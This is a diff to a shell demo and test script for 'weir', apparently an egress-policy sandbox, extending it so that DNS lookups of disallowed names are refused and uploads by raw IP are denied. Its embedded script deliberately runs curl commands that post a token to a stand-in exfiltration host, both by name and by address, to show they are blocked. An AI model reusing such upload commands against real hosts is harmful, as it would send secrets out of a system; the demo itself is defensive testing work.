@@ -45,6 +45,9 @@ curl -sS --max-time 5 http://api.allowed.test/v1/status
 echo "[script] curl exit status: $?"
 echo "[script] curl --data token=s3cr3t http://exfil.evil.test/upload"
 curl -sS --max-time 5 --data token=s3cr3t http://exfil.evil.test/upload
+echo "[script] curl exit status: $?"
+echo "[script] curl --data token=s3cr3t http://203.0.113.66/upload   (its address, no lookup)"
+curl -sS --max-time 5 --data token=s3cr3t http://203.0.113.66/upload
 echo "[script] curl exit status: $?"'
 
 setup() {
@@ -65,13 +68,15 @@ intro() {
 	head2 "The policy: policy/demo.yaml"
 	grep -v '^#' "$POLICY" | indent
 	head2 "Running a script under weir"
-	say "It fetches from the API, then tries to upload a token to exfil.evil.test:"
+	say "It fetches from the API, then tries to upload a token to exfil.evil.test, by name"
+	say "and then by address:"
 	say "  \$ weir run --policy policy/demo.yaml --events events.json -- sh -c '...'"
 	say ""
 }
 
 # Output of the run (command and weir, in the order written) in $T/run.log.
 run_demo() {
+	DNS_LOG_BEFORE=$(wc -l <"$T/dnsmasq.log")
 	"$WEIR" run --policy "$POLICY" --events "$T/events.json" -- sh -c "$SCRIPT" 2>&1 |
 		tee "$T/run.log" | indent
 	RUN_RC=${PIPESTATUS[0]}
@@ -79,18 +84,21 @@ run_demo() {
 
 show_events() {
 	head2 "The audit log: events.json, one JSON object per decision"
-	jq -r '[.verdict, .proto, "\(.dst):\(.port)", (.domain // "-"), .rule, .comm, .pid]
+	jq -r '[.verdict, .proto, (if .op == "dns" then "dns \(.qtype) \(.name)" else "\(.dst):\(.port)" end),
+		(.domain // "-"), .rule, .comm, .pid]
 		| @tsv' "$T/events.json" |
-		awk -F'\t' 'BEGIN { printf "%-8s %-5s %-22s %-18s %-12s %-8s %s\n",
+		awk -F'\t' 'BEGIN { printf "%-8s %-5s %-28s %-18s %-12s %-8s %s\n",
 			"verdict", "proto", "destination", "domain", "rule", "comm", "pid" }
-			{ printf "%-8s %-5s %-22s %-18s %-12s %-8s %s\n", $1, $2, $3, $4, $5, $6, $7 }' |
+			{ printf "%-8s %-5s %-28s %-18s %-12s %-8s %s\n", $1, $2, $3, $4, $5, $6, $7 }' |
 		indent
 	say ""
 	say "The allowed request to the API, in full:"
 	jq -s 'map(select(.domain == "api.allowed.test" and .proto == "tcp"))[0]' "$T/events.json" |
 		indent
 	say "The denied one:"
-	jq -s 'map(select(.verdict == "deny"))[0]' "$T/events.json" | indent
+	jq -s 'map(select(.verdict == "deny" and .op != "dns"))[0]' "$T/events.json" | indent
+	say "The refused lookup:"
+	jq -s 'map(select(.verdict == "deny" and .op == "dns"))[0]' "$T/events.json" | indent
 }
 
 # Did it behave? Every reason it did not goes into FAILS.
@@ -100,8 +108,14 @@ verify() {
 	grep -q '^ok$' "$T/run.log" || FAILS+=("the API's answer is missing")
 	grep -q 'GET /v1/status ' "$T/api.log" || FAILS+=("the API server saw no request")
 	[ ! -s "$T/exfil.log" ] || FAILS+=("exfil.evil.test received: $(head -1 "$T/exfil.log")")
+	grep -q '^\[script\] curl exit status: 6$' "$T/run.log" ||
+		FAILS+=("exfil.evil.test resolved (want curl's 'could not resolve', 6)")
+	grep -qE "^weir: refused dns A exfil\.evil\.test \(curl pid [0-9]+\)$" "$T/run.log" ||
+		FAILS+=("weir printed no refusal for exfil.evil.test")
 	grep -q '^\[script\] curl exit status: 7$' "$T/run.log" ||
-		FAILS+=("the upload did not fail with curl's 'could not connect' (7)")
+		FAILS+=("the upload by address did not fail with curl's 'could not connect' (7)")
+	tail -n +$((DNS_LOG_BEFORE + 1)) "$T/dnsmasq.log" | grep -q 'exfil.evil.test' &&
+		FAILS+=("the query for exfil.evil.test reached the upstream resolver")
 	grep -qE "^weir: denied tcp $EVIL_IP:80 \(curl pid [0-9]+\)$" "$T/run.log" ||
 		FAILS+=("weir printed no denial for $EVIL_IP:80")
 	grep -q '^weir: summary: ' "$T/run.log" || FAILS+=("weir printed no summary")
@@ -114,9 +128,11 @@ verify() {
 
 explain() {
 	head2 "What happened"
-	say "The API call got through: api.allowed.test:80 is what the policy allows (and name"
-	say "lookups to the nameserver in /etc/resolv.conf always are). The upload never left:"
-	say "connect() failed with EPERM in the kernel, and exfil.evil.test received nothing."
+	say "The API call got through: weir's resolver answered api.allowed.test (an allowed"
+	say "name) and let the kernel allow the address it handed out, port 80 only."
+	say "exfil.evil.test got REFUSED: the query never left the machine, so even a secret"
+	say "hidden in a name goes nowhere. The upload by address failed with EPERM in the"
+	say "kernel; exfil.evil.test received nothing."
 }
 
 main() {
